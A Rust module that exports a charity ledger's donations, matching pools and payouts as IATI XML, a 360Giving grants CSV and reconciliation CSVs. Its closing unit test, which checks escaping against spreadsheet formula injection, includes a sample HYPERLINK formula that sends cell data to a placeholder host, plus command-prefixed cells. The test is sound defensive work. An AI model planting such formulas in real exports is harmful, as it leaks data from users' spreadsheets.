            EventBody::MatchAllocated(m) => (&m.pool, Some(&m.project)),
            EventBody::MatchReleased(m) => (&m.pool, Some(&m.project)),
            EventBody::MatchRevoked(m) => (&m.pool, Some(&m.project)),
            _ => return Ok(()),
        };
        let Some(pool) = self.books.ledger.pools.get(pool_id) else {
            return Ok(());
        };
        if pool.open && only.is_some() {
            return Ok(());
        }
        let projects = pool.projects.iter().enumerate();
        for (index, project) in projects.filter(|(_, p)| only.is_none_or(|o| o == *p)) {
            let Some(a) = self.activities.get_mut(project) else {
                continue;
            };
            let now = commitment_published_minor(pool, index, &self.books, r.seq)?;
            let published = self
                .commitments_published
                .entry((pool.id.clone(), project.clone()))
                .or_insert(0);
            if now == *published {
                continue;
            }
            let description = match &r.body {
                EventBody::MatchingPoolCommitted(_) => {
                    format!("matching pool {} (share of its cap)", pool.id)
                }
                EventBody::MatchingPoolClosed(_) => format!(
                    "matching pool {} closed: its commitment is the matches made",
                    pool.id
                ),
                _ => format!("matching pool {} (closed): a match released", pool.id),
            };
            a.transactions.push(IatiTransaction {
                code: iati_type::INCOMING_COMMITMENT,
                date: date.to_owned(),
                value_minor: i128::from(now) - i128::from(*published),
                currency: pool.currency,
                description,
                provider: Some(Party::Named(pool.sponsor.to_string())),
                receiver: None,
                reference: reference.to_owned(),
            });
            *published = now;
        }
        Ok(())
    }

    /// Writes the activity file.
    pub fn write_xml(&self, publisher: &Publisher, out: &mut dyn Write) -> Result<(), ReportError> {
        use quick_xml::events::{BytesDecl, BytesEnd, BytesStart, Event};
        let mut w = quick_xml::Writer::new_with_indent(out, b' ', 1);
        let x = |e: std::io::Error| ReportError::Xml(e.to_string());
        w.write_event(Event::Decl(BytesDecl::new("1.0", Some("UTF-8"), None)))
            .map_err(x)?;
        let generated = chrono::DateTime::from_timestamp_millis(self.last_ts_ms as i64)
            .map(|d| d.format("%Y-%m-%dT%H:%M:%SZ").to_string())
            .unwrap_or_default();
        let mut root = BytesStart::new("iati-activities");
        root.push_attribute(("version", "2.03"));
        root.push_attribute(("generated-datetime", generated.as_str()));
        w.write_event(Event::Start(root)).map_err(x)?;
        for a in self.activities.values() {
            let mut act = BytesStart::new("iati-activity");
            act.push_attribute(("last-updated-datetime", generated.as_str()));
            act.push_attribute(("xml:lang", "zh"));
            act.push_attribute(("default-currency", a.currency.as_str()));
            w.write_event(Event::Start(act)).map_err(x)?;
            let identifier = activity_identifier(publisher, &a.id);
            xml_text(&mut w, "iati-identifier", &[], &identifier).map_err(x)?;
            xml_narrative(
                &mut w,
                "reporting-org",
                &[
                    ("ref", publisher.org_id.as_str()),
                    ("type", publisher.org_type.as_str()),
                ],
                &publisher.org_name,
            )
            .map_err(x)?;
            xml_narrative(&mut w, "title", &[], &a.name).map_err(x)?;
            xml_narrative(
                &mut w,
                "description",
                &[],
                &format!("{} ({})", a.name, a.kind.as_str()),
            )
            .map_err(x)?;
            xml_narrative(
                &mut w,
                "participating-org",
                &[
                    ("ref", publisher.org_id.as_str()),
                    ("role", "4"),
                    ("type", publisher.org_type.as_str()),
                ],
                &publisher.org_name,
            )
            .map_err(x)?;
            let status = if a.closed_date.is_some() { "3" } else { "2" };
            w.write_event(Event::Empty({
                let mut s = BytesStart::new("activity-status");
                s.push_attribute(("code", status));
                s
            }))
            .map_err(x)?;
            let mut dates = vec![("2", a.opened_date.as_str())];
            if let Some(c) = &a.closed_date {
                dates.push(("4", c.as_str()));
            }
            for (code, date) in dates {
                let mut s = BytesStart::new("activity-date");
                s.push_attribute(("type", code));
                s.push_attribute(("iso-date", date));
                w.write_event(Event::Empty(s)).map_err(x)?;
            }
            let mut country = BytesStart::new("recipient-country");
            country.push_attribute(("code", publisher.country.as_str()));
            country.push_attribute(("percentage", "100"));
            w.write_event(Event::Empty(country)).map_err(x)?;
            let mut sector = BytesStart::new("sector");
            sector.push_attribute(("vocabulary", "1"));
            sector.push_attribute(("code", publisher.sector.as_str()));
            sector.push_attribute(("percentage", "100"));
            w.write_event(Event::Empty(sector)).map_err(x)?;
            for t in self.transactions_of(a) {
                write_transaction(&mut w, publisher, &t).map_err(x)?;
            }
            w.write_event(Event::End(BytesEnd::new("iati-activity")))
                .map_err(x)?;
        }
        w.write_event(Event::End(BytesEnd::new("iati-activities")))
            .map_err(x)?;
        Ok(())
    }

    fn transactions_of(&self, a: &IatiActivity) -> Vec<IatiTransaction> {
        let mut out = a.transactions.clone();
        for (
            (date, channel),
            DailyGifts {
                count,
                gross,
                fees,
                refunds,
                fees_returned,
            },
        ) in &a.daily
        {
            let base = |code, value_minor: i128, description: String| IatiTransaction {
                code,
                date: date.clone(),
                value_minor,
                currency: a.currency,
                description,
                provider: Some(Party::Named("individual donors (anonymous)".into())),
                receiver: None,
                reference: format!("{}-{date}-{}", a.id, channel.as_str()),
            };
            if *gross > 0 {
                out.push(base(
                    iati_type::INCOMING_FUNDS,
                    i128::from(*gross),
                    format!("{count} gifts via {}", channel_name(*channel)),
                ));
            }
            if *refunds > 0 {
                out.push(base(
                    iati_type::INCOMING_FUNDS,
                    -i128::from(*refunds),
                    format!("gifts refunded via {}", channel_name(*channel)),
                ));
            }
            if *fees > 0 {
                let mut t = base(
                    iati_type::EXPENDITURE,
                    i128::from(*fees),
                    format!("{} fees", channel_name(*channel)),
                );
                t.provider = None;
                t.receiver = Some(Party::Named(channel_name(*channel).to_owned()));
                out.push(t);
            }
            // A fee the channel gave back on a refund lowers the expenditure, as a refund
            // lowers the incoming funds: a negative 4 on the day it was recorded (the
            // refund's, or a later correction's).
            if *fees_returned > 0 {
                let mut t = base(
                    iati_type::EXPENDITURE,
                    -i128::from(*fees_returned),
                    format!("{} fees returned on refunds", channel_name(*channel)),
                );
                t.provider = None;
                t.receiver = Some(Party::Named(channel_name(*channel).to_owned()));
                out.push(t);
            }
        }
        for ((date, pool), (count, allocated, released, sponsor)) in &a.daily_matches {
            let base = |value_minor: i128, description: String| IatiTransaction {
                code: iati_type::INCOMING_FUNDS,
                date: date.clone(),
                value_minor,
                currency: a.currency,
                description,
                provider: Some(Party::Named(sponsor.clone())),
                receiver: None,
                reference: format!("{}-{date}-{pool}", a.id),
            };
            if *allocated > 0 {
                out.push(base(
                    i128::from(*allocated),
                    format!("matching for {count} gifts, pool {pool}"),
                ));
            }
            if *released > 0 {
                out.push(base(
                    -i128::from(*released),
                    format!("matches released (gifts refunded), pool {pool}"),
                ));
            }
        }
        out.sort_by(|x, y| x.date.cmp(&y.date).then(x.code.cmp(y.code)));
        out
    }
}

fn write_transaction(
    w: &mut quick_xml::Writer<&mut dyn Write>,
    publisher: &Publisher,
    t: &IatiTransaction,
) -> std::io::Result<()> {
    use quick_xml::events::{BytesEnd, BytesStart, Event};
    let mut s = BytesStart::new("transaction");
    s.push_attribute(("ref", t.reference.as_str()));
    w.write_event(Event::Start(s))?;
    let mut ty = BytesStart::new("transaction-type");
    ty.push_attribute(("code", t.code));
    w.write_event(Event::Empty(ty))?;
    let mut d = BytesStart::new("transaction-date");
    d.push_attribute(("iso-date", t.date.as_str()));
    w.write_event(Event::Empty(d))?;
    xml_text(
        w,
        "value",
        &[
            ("currency", t.currency.as_str()),
            ("value-date", t.date.as_str()),
        ],
        &format_minor(t.value_minor),
    )?;
    if !t.description.is_empty() {
        xml_narrative(w, "description", &[], &t.description)?;
    }
    for (element, activity_attribute, party) in [
        ("provider-org", "provider-activity-id", &t.provider),
        ("receiver-org", "receiver-activity-id", &t.receiver),
    ] {
        match party {
            None => {}
            Some(Party::Named(name)) => xml_narrative(w, element, &[], name)?,
            Some(Party::Activity(project)) => {
                let identifier = activity_identifier(publisher, project);
                xml_narrative(
                    w,
                    element,
                    &[
                        ("ref", publisher.org_id.as_str()),
                        (activity_attribute, identifier.as_str()),
                        ("type", publisher.org_type.as_str()),
                    ],
                    &publisher.org_name,
                )?;
            }
        }
    }
    w.write_event(Event::End(BytesEnd::new("transaction")))
}

/// `<name attrs…>`, what `inner` writes, `</name>`.
fn xml_element(
    w: &mut quick_xml::Writer<&mut dyn Write>,
    name: &str,
    attrs: &[(&str, &str)],
    inner: impl FnOnce(&mut quick_xml::Writer<&mut dyn Write>) -> std::io::Result<()>,
) -> std::io::Result<()> {
    use quick_xml::events::{BytesEnd, BytesStart, Event};
    let mut s = BytesStart::new(name);
    for kv in attrs {
        s.push_attribute(*kv);
    }
    w.write_event(Event::Start(s))?;
    inner(w)?;
    w.write_event(Event::End(BytesEnd::new(name)))
}

/// `<name attrs…>text</name>`.
fn xml_text(
    w: &mut quick_xml::Writer<&mut dyn Write>,
    name: &str,
    attrs: &[(&str, &str)],
    text: &str,
) -> std::io::Result<()> {
    use quick_xml::events::{BytesText, Event};
    xml_element(w, name, attrs, |w| {
        w.write_event(Event::Text(BytesText::new(text)))
    })
}

/// `<name attrs…><narrative>text</narrative></name>`: how IATI gives a text.
fn xml_narrative(
    w: &mut quick_xml::Writer<&mut dyn Write>,
    name: &str,
    attrs: &[(&str, &str)],
    text: &str,
) -> std::io::Result<()> {
    xml_element(w, name, attrs, |w| xml_text(w, "narrative", &[], text))
}

/// A 360Giving-style grants CSV: one row per approved payout (a grant from the project's
/// fund to its payee). People (help requests, micro-wishes) are not named.
pub struct GrantsCsv {
    books: Books,
    /// Payee, purpose and approval date of each payout request.
    texts: BTreeMap<u64, (String, String, String)>,
}

impl Default for GrantsCsv {
    fn default() -> Self {
        GrantsCsv::new()
    }
}

/// The 360Giving columns written, in order: the standard's titles only. A grant to an
/// organisation fills the `Recipient Org:` pair, a grant to a person (a help request's or
/// micro-wish's payee) the `Recipient Ind:` pair, as the standard asks.
pub const GRANTS_COLUMNS: [&str; 14] = [
    "Identifier",
    "Title",
    "Description",
    "Currency",
    "Amount Awarded",
    "Award Date",
    "Amount Disbursed",
    "Recipient Org:Identifier",
    "Recipient Org:Name",
    "Recipient Ind:Identifier",
    "Recipient Ind:Name",
    "Funding Org:Identifier",
    "Funding Org:Name",
    "Grant Programme:Title",
];

impl GrantsCsv {
    pub fn new() -> GrantsCsv {
        GrantsCsv {
            books: Books::default(),
            texts: BTreeMap::new(),
        }
    }

    pub fn push(&mut self, event: &SealedEvent) -> Result<(), ReportError> {
        self.books.apply(event)?;
        match &event.record().body {
            EventBody::PayoutRequested(p) => {
                self.texts.insert(
                    event.seq(),
                    (p.payee.to_string(), p.purpose.to_string(), String::new()),
                );
            }
            EventBody::PayoutApproved(d) => {
                if let Some(t) = self.texts.get_mut(&d.request_seq) {
                    t.2 = china_date(event.record().ts_ms);
                }
            }
            _ => {}
        }
        Ok(())
    }

    /// Writes one row per approved or paid payout, in seq order. Returns the rows written.
    pub fn write(&self, publisher: &Publisher, out: &mut dyn Write) -> Result<u64, ReportError> {
        let state = &self.books.ledger;
        let mut w = csv::Writer::from_writer(out);
        write_row(&mut w, GRANTS_COLUMNS)?;
        let mut rows = 0;
        for p in state.payouts.values() {
            if !matches!(
                p.status,
                projections::RequestStatus::Approved | projections::RequestStatus::Disbursed
            ) {
                continue;
            }
            let Some(project) = state.projects.get(&p.project) else {
                continue;
            };
            let (payee, purpose, award_date) = self.texts.get(&p.seq).cloned().unwrap_or_default();
            let person = matches!(
                project.kind,
                ProjectKind::HelpRequest | ProjectKind::MicroWish
            );
            let disbursed = p
                .disbursed_ts_ms
                .map(|_| format_minor(i128::from(p.amount_minor)))
                .unwrap_or_default();
            let prefix = &publisher.prefix_360g;
            // A person gets an identifier of their grant, never of them (360Giving: it must
            // not refer to any official data about the person); an organisation one of its
            // name, the same for every grant to it.
            let (org, ind) = if person {
                let id = format!("{prefix}-IND-{}", p.seq);
                (
                    (String::new(), String::new()),
                    (id, masked_payee(project.kind, &payee)),
                )
            } else {
                let id = format!("{prefix}-ORG-{}", slug(&payee));
                ((id, payee.clone()), (String::new(), String::new()))
            };
            write_row(
                &mut w,
                [
                    format!("{prefix}-{}-{}", p.project, p.seq).as_str(),
                    &format!("{}: {}", project.name, purpose),
                    &purpose,
                    p.currency.as_str(),
                    &format_minor(i128::from(p.amount_minor)),
                    &award_date,
                    &disbursed,
                    &org.0,
                    &org.1,
                    &ind.0,
                    &ind.1,
                    &publisher.org_id,
                    &publisher.org_name,
                    project.name.as_str(),
                ],
            )?;
            rows += 1;
        }
        w.flush()?;
        Ok(rows)
    }
}

/// A stable ASCII identifier part for a name: its SHA-256, shortened.
fn slug(name: &str) -> String {
    events::sha256(name.as_bytes()).to_hex()[..12].to_owned()
}

/// Writes a reconciliation's exceptions as CSV, one row each, with its reason code.
pub fn write_exceptions_csv(
    rec: &projections::reconcile::Reconciliation,
    out: &mut dyn Write,
) -> Result<(), ReportError> {
    let mut w = csv::Writer::from_writer(out);
    write_row(
        &mut w,
        [
            "statement_seq",
            "reason",
            "line_no",
            "entry_seq",
            "reference",
            "statement_amount",
            "ledger_amount",
            "difference",
            "statement_fee",
            "ledger_fee",
            "resolved_seq",
            "resolution",
        ],
    )?;
    let opt = |v: Option<u64>| v.map(|v| v.to_string()).unwrap_or_default();
    let money = |v: Option<u64>| v.map(|v| format_minor(i128::from(v))).unwrap_or_default();
    let signed_money = |v: Option<i64>| v.map(|v| format_minor(i128::from(v))).unwrap_or_default();
    for e in &rec.exceptions {
        let difference = match (e.statement_amount_minor, e.ledger_amount_minor) {
            (Some(s), Some(l)) => format_minor(i128::from(s) - i128::from(l)),
            _ => String::new(),
        };
        write_row(
            &mut w,
            [
                rec.statement_seq.to_string().as_str(),
                e.reason.as_str(),
                &opt(e.line_no),
                &opt(e.entry_seq),
                &e.reference,
                &money(e.statement_amount_minor),
                &money(e.ledger_amount_minor),
                &difference,
                // As the bill prints it: to 0.00001 yuan when finer than the fen.
                &match e.statement_fee_milli_minor {
                    Some(milli) => format_milli_minor(i128::from(milli)),
                    None => signed_money(e.statement_fee_minor),
                },
                &signed_money(e.ledger_fee_minor),
                &opt(e.resolved_seq),
                e.resolution.unwrap_or(""),
            ],
        )?;
    }
    w.flush()?;
    Ok(())
}

/// Writes a reconciliation's matched pairs as CSV.
pub fn write_matched_csv(
    rec: &projections::reconcile::Reconciliation,
    out: &mut dyn Write,
) -> Result<(), ReportError> {
    let mut w = csv::Writer::from_writer(out);
    write_row(&mut w, ["statement_seq", "line_no", "entry_seq", "rule"])?;
    for m in &rec.matched {
        write_row(
            &mut w,
            [
                rec.statement_seq.to_string(),
                m.line_no.to_string(),
                m.entry_seq.to_string(),
                m.rule.as_str().to_owned(),
            ],
        )?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Text that a spreadsheet would run as a formula is written as text; numbers and
    /// ordinary text are written as they are.
    #[test]
    fn csv_cells_never_start_a_formula() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
            ),
            ("+86 10 1234", "'+86 10 1234"),
            ("-x", "'-x"),
            ("-", "'-"),
            ("@SUM(1,2)", "'@SUM(1,2)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("-12.50", "-12.50"),
            ("-3", "-3"),
            ("-1.", "'-1."),
            ("12.50", "12.50"),
            ("星星课堂", "星星课堂"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(cell), written, "{cell:?}");
        }
        let mut out = Vec::new();
        {
            let mut w = csv::Writer::from_writer(&mut out);
            write_row(&mut w, ["=1+2", "-5.00", "payee, \"quoted\""]).unwrap();
            w.flush().unwrap();
        }
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(out.as_slice());
        let row = r.records().next().unwrap().unwrap();
        assert_eq!(
            row.iter().collect::<Vec<_>>(),
            ["'=1+2", "-5.00", "payee, \"quoted\""]
        );
    }
}
